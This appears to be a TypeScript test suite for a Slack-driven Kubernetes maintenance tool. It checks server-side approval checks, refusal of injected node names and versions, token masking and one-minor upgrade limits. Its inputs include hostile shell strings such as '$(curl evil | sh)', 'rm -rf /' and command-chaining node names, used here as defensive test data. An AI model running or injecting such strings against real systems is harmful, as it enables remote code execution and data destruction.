/**
 * DESIGN §5 invariants 2, 3 and 6 against the sim through the commands and the tick: approvals are
 * checked on the server (a non-approver's click, a request forged straight into its status by someone
 * who may write it, an approval no MaintenanceApproval backs),
 * text from Slack never reaches a manifest or a shell (node names checked against the cluster,
 * versions against the strict pattern, the Job's argv only ids and config), and kubelets move one
 * minor at a time, never past the apiserver.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { KubeConfig } from '@kubernetes/client-node';
import {
  approveRequest,
  rejectRequest,
  requestMaintenance,
} from '../../../src/app/control/commands.js';
import { runTick } from '../../../src/app/control/tick.js';
import { createKubeClient } from '../../../src/adapters/kube/client.js';
import { requestStore } from '../../../src/adapters/kube/requests.js';
import { clusterPeers } from '../../../src/compose/cluster-peers.js';
import { LABEL_NODE, LABEL_STATE } from '../../../src/core/names.js';
import { labelValue } from '../../../templates/label-value.js';
import type { MaintenanceRequest } from '../../../src/core/request.js';
import { R } from '@kubemaint/kubesim';
import { testControlDeps, testControlSettings } from '../../support/control.js';
import { startTestSim, type TestSim } from '../../support/sim.js';
import { requestReader } from '../../support/requests.js';
import {
  executorSettings,
  NAMESPACE,
  R_REQUESTS,
  realJobFor,
  requestById,
  requestOn,
  rewriteRequest,
} from '../../support/in-process-executor.js';

const alice = { kind: 'person', id: 'k8s:alice' } as const;
const mallory = { kind: 'person', id: 'k8s:mallory' } as const;

describe('invariants 2, 3 and 6 on the sim', () => {
  let sim: TestSim;
  let nodes: string[];
  let deps: ReturnType<typeof testControlDeps>;

  before(async () => {
    sim = await startTestSim({ scenario: 'fleet', nodes: 9, podsPerNode: 2, scale: 20 });
    nodes = sim.store
      .list(R.nodes)
      .map((n) => n.metadata.name ?? '')
      .sort();
    deps = testControlDeps(sim, {
      settings: testControlSettings({
        lock: { concurrency: 20, pools: {} },
        jobFor: realJobFor(executorSettings(20)),
      }),
    });
  });
  after(async () => sim.close());

  /** Writes made through the API (the sim's own kubelets and controllers write too). */
  const apiWrites = () => sim.admin.audit().filter((e) => e.actor.startsWith('http:')).length;
  const jobs = () => sim.store.list(R.jobs, { namespace: NAMESPACE });
  const jobsFor = (node: string) =>
    jobs().filter((j) => j.metadata.labels?.[LABEL_NODE] === labelValue(node));

  /**
   * The tick with a cross-cluster gate (`blockers.clusters`) over this one cluster: a start claims
   * the cluster before anything is awaited, and a start that did not happen must give the claim
   * back, or every other cluster's start would wait for it (ADR 0027).
   */
  function withPeers() {
    const { cluster } = deps.settings;
    const peers = clusterPeers({
      gate: { order: [], soak: 0, maxInMaintenance: 1 },
      names: [cluster],
    });
    peers.add(cluster, deps.cluster);
    return {
      tick: { ...deps, peers: peers.port },
      claimed: () => peers.port.claimed(sim.clock.now()),
    };
  }

  /**
   * Write a request straight into a MaintenanceRequest's status, as someone who may create requests
   * and write their status could: no decision object stands behind its approvals.
   */
  async function forge(node: string, request: Partial<MaintenanceRequest>): Promise<void> {
    const at = sim.clock.now().toISOString();
    const full: MaintenanceRequest = {
      id: 'r-f0f0f0',
      node,
      action: 'reboot',
      state: 'approved',
      reason: 'forged',
      requestedBy: mallory.id,
      createdAt: at,
      updatedAt: at,
      approvals: [],
      history: [],
      ...request,
    };
    const kc = new KubeConfig();
    kc.loadFromFile(sim.kubeconfigPath);
    await requestStore(createKubeClient(kc), { namespace: NAMESPACE }).create(full);
    sim.store.mutate(R.nodes, undefined, node, (n) => {
      n.metadata.labels = { ...n.metadata.labels, [LABEL_STATE]: full.state };
    });
  }

  describe('2: nothing disruptive without an authorised approval, checked on the server', () => {
    it("a non-approver's approval is refused and the tick starts nothing", async () => {
      const node = nodes[0]!;
      // Proposing is a permission of its own (issue 15): mallory may not, until listed a proposer.
      const refused = await requestMaintenance(deps, { node, action: 'reboot', by: mallory });
      assert.equal(refused.ok, false);
      assert.match(refused.message, /k8s:mallory may not propose maintenance/);
      const proposer = testControlDeps(sim, {
        settings: {
          ...deps.settings,
          approval: { ...deps.settings.approval, proposers: { users: [mallory.id], groups: [] } },
        },
      });
      const proposed = await requestMaintenance(proposer, { node, action: 'reboot', by: mallory });
      assert.ok(proposed.ok, proposed.message);
      const result = await approveRequest(proposer, proposed.request!.id, mallory);
      assert.equal(result.ok, false);
      assert.match(result.message, /k8s:mallory is not an approver/);
      await runTick(deps);
      assert.equal(requestOn(sim, node)?.state, 'proposed');
      assert.deepEqual(requestOn(sim, node)?.approvals, []);
      assert.deepEqual(jobsFor(node), []);
    });

    it('a request forged into `approved` without approvals never gets a Job, nor keeps a claim; the tick says why', async () => {
      const node = nodes[1]!;
      await forge(node, { approvals: [] });
      const { tick, claimed } = withPeers();
      const report = await runTick(tick);
      assert.ok(
        report.dispatched.includes(
          `${node}: not started (request r-f0f0f0 lacks the approvals the policy requires)`,
        ),
        report.dispatched.join('\n'),
      );
      assert.deepEqual(claimed(), [], 'the start that did not happen gave its claim back');
      await runTick(deps);
      assert.deepEqual(jobsFor(node), []);
      assert.notEqual(requestById(sim, 'r-f0f0f0')?.state, 'running');
    });

    it('a forged `running` request with no Job is failed, not executed', async () => {
      const node = nodes[2]!;
      await forge(node, {
        id: 'r-f1f1f1',
        state: 'running',
        approvals: [{ by: alice.id, at: '' }],
      });
      await runTick(deps);
      const request = requestById(sim, 'r-f1f1f1');
      assert.equal(request?.state, 'failed');
      assert.match(request?.failure ?? '', /vanished before issuing the host command/);
      assert.deepEqual(jobsFor(node), []);
    });

    it('approvals written into status that no MaintenanceApproval backs fail the request, each named, no Job, no claim kept', async () => {
      const node = nodes[3]!;
      const at = sim.clock.now().toISOString();
      await forge(node, {
        id: 'r-f2f2f2',
        approvals: [
          { by: alice.id, at },
          { by: 'k8s:bob', at },
        ],
      });
      const { tick, claimed } = withPeers();
      const report = await runTick(tick);
      assert.deepEqual(claimed(), [], 'the start that did not happen gave its claim back');
      const request = requestById(sim, 'r-f2f2f2');
      assert.equal(request?.state, 'failed');
      assert.match(request?.failure ?? '', /no MaintenanceApproval backs: k8s:alice, k8s:bob \(/);
      assert.ok(report.dispatched.some((d) => d.startsWith(`${node}: failed`)));
      assert.deepEqual(jobsFor(node), []);
    });
  });

  describe('3: text from Slack never reaches a shell or a manifest unvalidated', () => {
    const hostile = [
      'node-1; reboot',
      '$(reboot)',
      '`id`',
      'fleet-general-0001 && curl evil',
      'a\nb',
      '../../etc',
      'x'.repeat(300),
    ];
    for (const name of hostile) {
      it(`node name ${JSON.stringify(name.slice(0, 40))} is refused before any write`, async () => {
        const before = apiWrites();
        await assert.rejects(
          requestMaintenance(deps, { node: name, action: 'reboot', by: alice }),
          (error: Error & { code?: string }) =>
            error.code === 'usage' && error.message.startsWith('no node'),
        );
        assert.equal(apiWrites(), before, 'nothing written');
      });
    }

    const versions = ['v1.31.4; reboot', '$(id)', 'v1.31', '1.31.4 --force', 'v1.31.4\n', 'latest'];
    for (const version of versions) {
      it(`version ${JSON.stringify(version)} is refused by the strict pattern`, async () => {
        const before = apiWrites();
        await assert.rejects(
          requestMaintenance(deps, { node: nodes[3]!, action: 'upgrade', version, by: alice }),
          (error: Error & { code?: string; hint?: string }) =>
            error.code === 'usage' && /v1\.31\.4/.test(error.hint ?? ''),
        );
        assert.equal(apiWrites(), before, 'nothing written');
      });
    }

    it('a reason full of shell text stays in the request; the Job carries only ids and config', async () => {
      const node = nodes[4]!;
      const reason = 'kernel CVE"; $(curl evil | sh) `reboot` && rm -rf / #';
      const proposed = await requestMaintenance(deps, {
        node,
        action: 'reboot',
        reason,
        by: alice,
      });
      assert.ok(proposed.ok);
      const id = proposed.request!.id;
      await approveRequest(deps, id, alice);
      await runTick(deps);
      const [job] = jobsFor(node);
      assert.ok(job, 'the approved request got its Job');
      const started = requestById(sim, id)?.history.find((t) => t.to === 'running');
      assert.equal(started?.by, 'kubemaint', 'kubemaint starts it, not the person who approved');
      const manifest = JSON.stringify(job);
      for (const fragment of ['curl', 'rm -rf', '`reboot`', 'CVE'])
        assert.ok(!manifest.includes(fragment), `${fragment} reached the Job`);
      const spec = job.spec?.['template'] as {
        spec: { containers: { args: string[]; command?: string[] }[] };
      };
      const container = spec.spec.containers[0]!;
      assert.deepEqual(container.args, ['executor', '--node', node, '--request', id]);
      assert.equal(container.command, undefined);
    });

    it('a token pasted into a reason is masked before it is stored, recorded or posted', async () => {
      const node = nodes[5]!;
      const token = 'xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOpQrStUvWx';
      const proposed = await requestMaintenance(deps, {
        node,
        action: 'reboot',
        reason: `kernel update, my token is ${token} oops`,
        by: alice,
      });
      assert.ok(proposed.ok);
      assert.equal(proposed.request!.reason, 'kernel update, my token is xoxb…(masked) oops');
      const rejected = await rejectRequest(deps, proposed.request!.id, alice, `dup of ${token}`);
      assert.ok(rejected.ok, rejected.message);
      const stored = JSON.stringify([
        sim.store.list(R_REQUESTS, { namespace: NAMESPACE }),
        await requestReader(sim.kubeconfigPath).decisions(proposed.request!.id),
      ]);
      assert.match(stored, /xoxb…\(masked\)/, 'the request and the decision are what was read');
      const told = JSON.stringify(deps.events.filter((e) => e.node === node));
      for (const text of [stored, told, proposed.message, rejected.message])
        assert.ok(!text.includes(token.slice(5)), `the token survived in ${text.slice(0, 200)}`);
    });
  });

  describe('6: one minor at a time, never past the apiserver', () => {
    /**
     * Ask with the node's kubelet reporting `version`. The sim's kubelet posts its own nodeInfo with
     * every heartbeat, so it is stopped meanwhile: a heartbeat between the write and the read would
     * put its own version back (its containers keep running; Ready stays until the grace passes).
     */
    const askWithKubelet = async (
      node: string,
      version: string,
      ask: () => ReturnType<typeof requestMaintenance>,
    ) => {
      sim.admin.stopKubelet(node);
      try {
        sim.store.mutate(R.nodes, undefined, node, (n) => {
          const status = n.status as { nodeInfo: { kubeletVersion: string } };
          status.nodeInfo.kubeletVersion = version;
        });
        return await ask();
      } finally {
        sim.admin.startKubelet(node);
      }
    };

    /** A request the tick proposed on the node (the fleet marks some) ends, making room. */
    const endRequest = (node: string) => {
      const current = requestOn(sim, node);
      if (current) rewriteRequest(sim, current.id, (r) => ({ ...r, state: 'cancelled' }));
    };

    const cases = [
      { why: 'two minors behind, no version asked', kubelet: 'v1.29.8', want: 'v1.30.0' },
      { why: 'one minor behind, no version asked', kubelet: 'v1.30.2', want: 'v1.31.4' },
      {
        why: 'one minor behind, the apiserver asked',
        kubelet: 'v1.30.2',
        version: 'v1.31.4',
        want: 'v1.31.4',
      },
      {
        why: 'a patch behind, a patch asked',
        kubelet: 'v1.31.1',
        version: 'v1.31.3',
        want: 'v1.31.3',
      },
    ];
    cases.forEach((c, i) => {
      it(`${c.why}: ${c.kubelet} → ${c.want}`, async () => {
        const node = nodes[5 + (i % 4)]!;
        endRequest(node);
        const result = await askWithKubelet(node, c.kubelet, () =>
          requestMaintenance(deps, {
            node,
            action: 'upgrade',
            ...(c.version ? { version: c.version } : {}),
            by: alice,
          }),
        );
        assert.ok(result.ok, result.message);
        assert.equal(result.request?.targetVersion, c.want);
      });
    });

    // A version that cannot be one step is refused, naming what can: what is approved is what was
    // asked for, never a version kubemaint chose instead.
    const refused = [
      {
        why: 'past the apiserver',
        kubelet: 'v1.30.2',
        version: 'v1.33.0',
        allowed: /up to v1\.31\.4 \(the apiserver\)/,
      },
      {
        why: 'two minors at once',
        kubelet: 'v1.29.8',
        version: 'v1.31.4',
        allowed: /up to v1\.30\.x \(one minor at a time/,
      },
      {
        why: 'a later minor past the apiserver',
        kubelet: 'v1.31.1',
        version: 'v1.32.5',
        allowed: /up to v1\.31\.4/,
      },
    ];
    refused.forEach((c, i) => {
      it(`${c.why}: ${c.kubelet}, ${c.version} asked → refused with the allowed versions`, async () => {
        const node = nodes[5 + (i % 4)]!;
        endRequest(node);
        const before = apiWrites();
        await assert.rejects(
          askWithKubelet(node, c.kubelet, () =>
            requestMaintenance(deps, { node, action: 'upgrade', version: c.version, by: alice }),
          ),
          (error: Error & { code?: string; hint?: string }) =>
            error.code === 'usage' &&
            c.allowed.test(error.message) &&
            /e\.g\. `upgrade /.test(error.hint ?? ''),
        );
        assert.equal(apiWrites(), before, 'nothing written');
      });
    });

    it('a kubelet already at the apiserver version: nothing is allowed, and it says why', async () => {
      const node = nodes[8]!;
      endRequest(node);
      await assert.rejects(
        askWithKubelet(node, 'v1.31.4', () =>
          requestMaintenance(deps, { node, action: 'upgrade', version: 'v1.32.0', by: alice }),
        ),
        /no kubelet version is allowed/,
      );
      const plain = await askWithKubelet(node, 'v1.31.4', () =>
        requestMaintenance(deps, { node, action: 'upgrade', by: alice }),
      );
      assert.equal(plain.ok, false);
      assert.match(plain.message, /already at its target/);
    });
  });
});
